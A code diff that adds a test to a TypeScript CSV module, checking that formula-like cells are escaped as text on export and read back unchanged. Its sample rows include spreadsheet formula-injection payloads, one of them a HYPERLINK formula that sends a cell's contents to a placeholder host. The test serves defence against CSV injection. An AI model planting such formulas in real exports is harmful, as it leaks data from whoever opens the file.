@@ -26,6 +26,15 @@ describe('CSV tables', () => {
     expect(r.ok && r.table).toEqual({ header, rows, lines: [2, 3] });
   });
 
+  it('writes a cell that starts like a formula (= + - @ tab CR) as text, numbers as they are, and reads back what was written', () => {
+    // An operator's description "=HYPERLINK(…)" in the risk export must not run when an officer opens it in a spreadsheet.
+    const rows = [['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1', "'=already", '-1.5', '+3', '1e5', 'plain']];
+    const text = formatCsv(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j'], rows);
+    expect(text.split('\n')[1]).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")",'+1+2,'-2+3,'@SUM(A1:A2),'\t=1,''=already,-1.5,+3,1e5,plain`);
+    const r = parseCsvTable(text);
+    expect(r.ok && r.table.rows).toEqual(rows);
+  });
+
   it('reports a missing file, malformed CSV and no header in one line, in Korean and English', async () => {
     const missing = await readCsvTable('/nonexistent/x.csv');
     expect(missing).toEqual({ ok: false, code: 'CSV_UNREADABLE', ko: '/nonexistent/x.csv을(를) 읽을 수 없습니다: 파일이 없습니다 (ENOENT)', en: 'cannot read /nonexistent/x.csv: no such file (ENOENT)' });
